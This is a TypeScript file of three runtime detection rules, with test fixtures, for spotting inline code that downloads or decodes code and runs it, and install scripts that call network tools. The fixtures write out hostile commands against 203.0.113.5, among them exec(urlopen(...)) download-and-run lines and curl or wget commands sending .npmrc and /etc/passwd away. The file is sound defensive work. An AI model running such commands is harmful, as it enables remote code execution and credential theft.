import { defineRule } from '@cws/core'
import { RAN } from '../authors.ts'
import { DOWNLOADERS, INLINE, INTERPRETERS, NETCATS } from '../names.ts'

/** What runs a text as code or as a command, in the languages of INTERPRETERS. Of `--eval` it is not the word. */
const RUNS =
  '\\bexec\\(|[^-\\w]eval\\b|os\\.system|os\\.exec|subprocess|popen|[^-\\w.]system\\b|child_process|passthru\\(|shell_exec|new Function|[^\\w]assert\\('

const FETCHERS = [
  'urlopen',
  'urlretrieve',
  'requests.get',
  'http.client',
  'LWP::',
  'HTTP::Tiny',
  'Net::HTTP',
  'open-uri',
  'URI.open',
  'file_get_contents',
  '.get(',
  'fetch(',
].map((word) => `*${word}*`)

export const inlineCodeFetched = defineRule({
  id: 'inline-code-fetched',
  name: 'Code on a command line fetched more code and ran it',
  severity: 'medium',
  tags: ['mitre:T1059.006', 'mitre:T1059', 'mitre:T1105'],
  on: 'exec',
  where: {
    'exec.file.name': INTERPRETERS,
    all: [
      { 'exec.args': FETCHERS },
      { 'exec.args': { regex: INLINE } },
      {
        'exec.args': {
          regex:
            'urlopen|urlretrieve|requests\\.get|http\\.client|LWP::|HTTP::Tiny|Net::HTTP|open-uri|URI\\.open|file_get_contents\\(\\s*["\']https?:|https?["\']?\\)?\\.get\\(|\\bfetch\\(',
        },
      },
      { 'exec.args': { regex: RUNS } },
    ],
  },
  groupBy: ['container.id', 'process.parent.file.path'],
  message: `${RAN} fetches something from the network and runs it, all in code given on the command line: nothing of it is on disk.`,
  advice: 'See whether you know the address. If not, fetch it without running it, and look at what the process started.',
  benign: ['Installers of languages, such as get-pip', 'Provisioning tools'],
  tests: {
    fires: [
      {
        'exec.file.name': 'python3.12',
        'exec.args': '-c from urllib.request import urlopen; exec(urlopen("http://203.0.113.5/a").read())',
      },
      { 'exec.file.name': 'perl', 'exec.args': '-MLWP::Simple -e system(get("http://203.0.113.5/a"))' },
      { 'exec.file.name': 'php8.2', 'exec.args': '-r eval(file_get_contents("http://203.0.113.5/a"));' },
      { 'exec.file.name': 'node', 'exec.args': '--eval fetch("http://203.0.113.5/a").then(r => r.text()).then(t => new Function(t)())' },
    ],
    silent: [
      {
        'exec.file.name': 'node',
        'exec.args': '-e require("http").get("http://localhost/health", r => process.exit(r.statusCode !== 200))',
      },
      { 'exec.file.name': 'node', 'exec.args': '--eval fetch("http://localhost/health").then(r => console.log(r.status))' },
      { 'exec.file.name': 'python3.12', 'exec.args': '-c from urllib.request import urlopen; print(urlopen("http://localhost/").status)' },
      { 'exec.file.name': 'python3.12', 'exec.args': '/srv/app/fetch.py --exec(urlopen)' },
      { 'exec.file.name': 'bash', 'exec.args': '-c exec(urlopen(1))' },
    ],
  },
})

export const inlineCodeDecoded = defineRule({
  id: 'inline-code-decoded',
  name: 'Code on a command line decoded more code and ran it',
  severity: 'high',
  tags: ['mitre:T1027.010', 'mitre:T1140', 'mitre:T1059'],
  on: 'exec',
  where: {
    'exec.file.name': INTERPRETERS,
    all: [
      { 'exec.args': { regex: INLINE } },
      {
        'exec.args': {
          regex:
            'b(?:64|32|85)decode|decode_base64|base64_decode|\\batob\\(|["\']base64["\']|zlib\\.decompress|gzinflate|gzuncompress|fromhex|unhexlify|marshal\\.loads|unpack\\(?\\s*["\'][uHm]',
        },
      },
      { 'exec.args': { regex: RUNS } },
    ],
  },
  groupBy: ['container.id', 'process.parent.file.path'],
  message: `${RAN} decodes a text and runs it as code. Encoding hides code from logs and filters; honest one-liners rarely need it.`,
  advice: 'Decode the text yourself, without running it, to see what was done, and look at what the process started.',
  benign: ['Provisioning tools that carry scripts through several layers of quoting'],
  tests: {
    fires: [
      { 'exec.file.name': 'python3.12', 'exec.args': '-c import base64;exec(base64.b64decode("cHJpbnQoMSk="))' },
      { 'exec.file.name': 'perl', 'exec.args': '-MMIME::Base64 -e eval(decode_base64("cHJpbnQgMQ=="))' },
      { 'exec.file.name': 'php8.2', 'exec.args': '-r eval(gzinflate(base64_decode("x")));' },
      { 'exec.file.name': 'node', 'exec.args': '-e new Function(atob("MQ=="))()' },
      { 'exec.file.name': 'ruby3.1', 'exec.args': '-e eval("MQ==".unpack("m")[0])' },
    ],
    silent: [
      { 'exec.file.name': 'python3.12', 'exec.args': '-c import base64,sys; print(base64.b64decode(sys.argv[1])) MQ==' },
      { 'exec.file.name': 'node', 'exec.args': '-e console.log(Buffer.from("MQ==", "base64").toString())' },
      {
        'exec.file.name': 'python3.12',
        'exec.args': '-c import sys; exec(compile(open(sys.argv[1]).read(), "setup.py", "exec")) setup.py',
      },
      { 'exec.file.name': 'python3.12', 'exec.args': '-m base64 -d exec(1)' },
    ],
  },
})

export const installScriptNetworkTool = defineRule({
  id: 'install-script-network-tool',
  name: 'A script of a package that is being installed called a network tool',
  severity: 'medium',
  tags: ['mitre:T1195.002', 'mitre:T1059.004'],
  on: 'exec',
  where: {
    any: [
      { 'exec.file.name': NETCATS },
      {
        'exec.file.name': DOWNLOADERS,
        'exec.args': { regex: '(?:^|\\s)(?:-[a-zA-Z]*[dFT]|--data\\S*|--form|--upload-file|--post-\\w+|--body-\\w+)(?:[\\s=]|$)' },
      },
    ],
    'process.ancestors.args': {
      // The program itself, not a text of a shell in which its name stands.
      regex: '^(?:-m )?(?:\\S*/)?(?:npm|pnpm|yarn|bun|pip3?|gem|composer)(?:-cli)?(?:\\.c?js)?\\s(?:.*\\s)?(?:ci|i|install|add)(?:\\s|$)',
    },
  },
  groupBy: ['container.id', 'process.parent.file.path', 'exec.file.name'],
  message: `${RAN} ran while packages were being installed: a script of one of them sends something away or opens a connection of its own. Stolen and mistyped packages do that.`,
  advice:
    'Find the package whose script it was (the working directory is {{@exec.cwd}}), and change all secrets that the installing user could read.',
  benign: ['Packages that report how often they are installed'],
  tests: {
    fires: [
      {
        'exec.file.name': 'nc.openbsd',
        'exec.args': '203.0.113.5 1',
        'process.ancestors.args': ['-c node post.js', '/usr/bin/npm install left-pad'],
      },
      {
        'exec.file.name': 'curl',
        'exec.args': '-d @/root/.npmrc http://203.0.113.5',
        'process.ancestors.args': ['-c x', '/usr/local/bin/npm ci'],
      },
      {
        'exec.file.name': 'wget',
        'exec.args': '--post-file=/etc/passwd http://203.0.113.5',
        'process.ancestors.args': ['/usr/bin/pip install x'],
      },
    ],
    silent: [
      {
        'exec.file.name': 'curl',
        'exec.args': '--data-binary @coverage.xml https://ci.example',
        'process.ancestors.args': ['-c npm ci && npm test && curl --data-binary @coverage.xml https://ci.example'],
      },
      {
        'exec.file.name': 'curl',
        'exec.args': '-fsSL -o x.tgz https://example.com/x.tgz',
        'process.ancestors.args': ['-c x', '/usr/bin/npm ci'],
      },
      {
        'exec.file.name': 'nc.openbsd',
        'exec.args': '-z localhost 5432',
        'process.ancestors.args': ['/usr/bin/npm run wait', '-c npm start'],
      },
      { 'exec.file.name': 'node', 'exec.args': '-d x', 'process.ancestors.args': ['/usr/bin/npm ci'] },
    ],
  },
})
